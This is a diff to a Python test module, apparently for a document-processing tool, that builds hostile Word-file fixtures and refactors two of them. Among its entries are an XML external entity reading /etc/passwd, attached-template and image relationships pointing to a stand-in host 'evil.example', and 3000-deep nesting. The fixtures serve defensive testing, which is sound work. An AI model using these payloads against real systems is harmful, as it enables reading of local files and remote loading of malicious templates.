@@ -19,6 +19,7 @@ from fontTools.ttLib import TTFont
 from fontTools.varLib.instancer import instantiateVariableFont
 
 from tests.broken_packs import BODY, PAGE
+from tests.word_packages import with_settings
 from tests.word_templates import docx, paragraph
 
 SECONDS = 5
@@ -136,11 +137,10 @@ WORD: dict[str, Callable[[], bytes]] = {
     "an entity from a file": lambda: with_document(
         lambda old: b'<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + old.replace(b"<w:sectPr/>", b"&a;")
     ),
-    "an injected template": lambda: with_part(
-        "word/_rels/settings.xml.rels", relationships("attachedTemplate", "https://evil.example/a.dotm")
-    ),
-    "an image from the network": lambda: with_part(
-        "word/_rels/header1.xml.rels", relationships("image", "https://evil.example/a.png")
+    "an injected template": lambda: with_settings("", relationships("attachedTemplate", "https://evil.example/a.dotm")),
+    "an image from the network": lambda: zipped(
+        unzipped(docx(BODY, header=paragraph("a")))
+        | {"word/_rels/header1.xml.rels": relationships("image", "https://evil.example/a.png")}
     ),
     "deep nesting": lambda: with_document(
         lambda old: old.replace(b"<w:sectPr/>", b"<w:sdt><w:sdtContent>" * 3000 + b"</w:sdtContent></w:sdt>" * 3000)
